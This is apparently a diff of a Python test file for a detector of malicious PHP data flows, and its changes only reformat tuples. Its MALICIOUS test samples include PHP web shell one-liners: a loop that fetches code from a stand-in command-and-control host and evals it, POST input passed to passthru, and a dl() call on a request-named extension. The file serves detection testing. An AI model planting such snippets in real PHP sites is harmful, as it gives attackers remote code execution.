@@ -61,7 +61,11 @@ MALICIOUS = [
         "<?php while (1) { $c = @file_get_contents('http://c2.example.net/t.php?id=' . gethostname()); if ($c) eval($c); sleep(60); }",
         CODE,
     ),
-    ("filter_var with no filter", "<?php $c = filter_var($_POST['c'], FILTER_UNSAFE_RAW); passthru($c);", CMD),
+    (
+        "filter_var with no filter",
+        "<?php $c = filter_var($_POST['c'], FILTER_UNSAFE_RAW); passthru($c);",
+        CMD,
+    ),
     ("extension named by the request", "<?php if (!extension_loaded('x')) { dl($_GET['e']); }", CODE),
     (
         "function table searched by name",
@@ -955,7 +959,10 @@ def test_flow_is_found(name: str, code: str, expected: str) -> None:
 
 
 BENIGN = [
-    ("a number validated by filter_var", "<?php $n = filter_var($_GET['n'], FILTER_VALIDATE_INT); system('seq ' . $n);"),
+    (
+        "a number validated by filter_var",
+        "<?php $n = filter_var($_GET['n'], FILTER_VALIDATE_INT); system('seq ' . $n);",
+    ),
     (
         "the page's own statements on a connection made with the account typed in the form",
         "<?php $l = mysqli_connect('localhost', $_POST['u'], $_POST['p'], 'app');"
